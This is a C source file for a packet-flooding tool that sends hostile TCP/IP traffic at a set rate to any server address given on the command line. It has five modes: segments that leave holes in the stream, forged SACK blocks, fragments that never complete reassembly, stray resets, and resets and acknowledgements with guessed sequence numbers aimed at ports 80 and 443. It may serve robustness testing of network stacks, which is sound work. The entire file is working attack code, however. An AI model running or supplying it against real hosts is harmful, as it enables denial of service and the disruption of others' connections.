// SPDX-License-Identifier: Apache-2.0
// storm KIND DEVICE GATE-MAC RATE SOURCE SOURCE-PORT SERVER PORT SEQ ACK SPAN
// Sends what a hostile host would, in the family of the addresses, about RATE a second until SIGTERM:
//   holes      one octet each, with a gap before it, all over the SPAN octets behind SEQ
//   sacks      acknowledgements of ACK with three blocks of one octet each within the SPAN octets behind it
//   fragments  of eight octets, of ever new datagrams of which none is ever whole
//   strays     resets and acknowledgements of connections that there are not
//   guesses    the same of the connections from SOURCE-PORT to 80 and from the next port to 443, with numbers
//              that are guessed
#include "flood.h"

enum { kRst = 4, kPsh = 8, kAck = 16 };

static uint32_t source_port, port, seq, ack, span;

static uint32_t mixed(uint32_t n) {
    n = (n ^ n >> 16) * 2246822519u;
    return (n ^ n >> 13) * 3266489917u;
}

// A segment of the connection so far; `options` in octets.
static uint8_t* tcp_header(uint8_t* f, uint32_t from_port, uint32_t its_seq, uint32_t its_ack, int flags, int options) {
    uint8_t* tcp = behind_ip(f);
    put16(tcp, from_port), put16(tcp + 2, port), put32(tcp + 4, its_seq), put32(tcp + 8, its_ack);
    tcp[12] = (uint8_t)((20 + options) / 4 << 4), tcp[13] = (uint8_t)flags;
    put16(tcp + 14, 0xfaf0), put16(tcp + 18, 0);
    return tcp + 20;
}
static int finished(uint8_t* f, const uint8_t* end) {
    const int length = (int)(end - f);
    finish_ip(f, length), finish_tcp(f, length);
    return length;
}

static int make_hole(uint8_t* f, uint32_t n) {
    uint8_t* at = tcp_header(f, source_port, seq + 1 + 2 * (n % (span / 2)), ack, kAck | kPsh, 0);
    *at++ = 'x';
    return finished(f, at);
}
static int make_sack(uint8_t* f, uint32_t n) {
    uint8_t* at = tcp_header(f, source_port, seq, ack, kAck, 28);
    *at++ = 1, *at++ = 1, *at++ = 5, *at++ = 26;
    for (uint32_t block = 0; block < 3; ++block, at += 8) {
        const uint32_t left = ack + 1 + 2 * ((3 * n + block) % (span / 2));
        put32(at, left), put32(at + 4, left + 1);
    }
    return finished(f, at);
}
// Of IPv6 in a header of its own (RFC 8200 section 4.5). Returns where the octets of the fragment begin.
static uint8_t* fragment_header(uint8_t* f, uint32_t ident, uint32_t eighth) {
    uint8_t *ip = f + kIpAt, *at = behind_ip(f);
    if (family->kind == AF_INET) return put16(ip + 4, ident), put16(ip + 6, 0x2000 | eighth), at;
    ip[6] = IPPROTO_FRAGMENT;
    put16(at, IPPROTO_TCP << 8), put16(at + 2, eighth << 3 | 1), put32(at + 4, ident);
    return at + 8;
}
static int make_fragment(uint8_t* f, uint32_t n) {
    uint8_t* at = fragment_header(f, n / 8, n % 8);
    const int length = (int)(at - f) + 8;
    put32(at, mixed(n)), put32(at + 4, n);
    finish_ip(f, length);
    return length;
}
static int make_stray(uint8_t* f, uint32_t n) {
    return finished(f, tcp_header(f, 1024 + n % 60000, mixed(n), mixed(~n), n % 2 != 0 ? kRst : kAck, 0));
}
static int make_guess(uint8_t* f, uint32_t n) {
    const uint32_t tls = n >> 1 & 1;
    port = tls ? 443 : 80;
    return finished(f, tcp_header(f, source_port + tls, mixed(n), mixed(~n), n % 2 != 0 ? kRst : kAck, 0));
}

static const struct {
    const char* name;
    int (*make)(uint8_t*, uint32_t);
} kKinds[] = {{"holes", make_hole}, {"sacks", make_sack}, {"fragments", make_fragment}, {"strays", make_stray}, {"guesses", make_guess}};

int main(int argc, char** argv) {
    uint8_t gate[6], own[6] = {2, 0x0a, 0, 0, 0, 0x78};
    if (argc != 12 || !read_mac(argv[3], gate) || !read_ends(argv[5], argv[7]))
        return fprintf(stderr, "usage: see the source\n"), 2;
    source_port = (uint32_t)atol(argv[6]), port = (uint32_t)atol(argv[8]);
    seq = (uint32_t)strtoul(argv[9], NULL, 10), ack = (uint32_t)strtoul(argv[10], NULL, 10);
    span = (uint32_t)atol(argv[11]);
    for (size_t i = 0; i < sizeof kKinds / sizeof *kKinds; ++i)
        if (strcmp(argv[1], kKinds[i].name) == 0)
            return flood(argv[2], UINT32_MAX, atof(argv[4]), gate, own, kKinds[i].make);
    return fprintf(stderr, "no such storm: %s\n", argv[1]), 2;
}
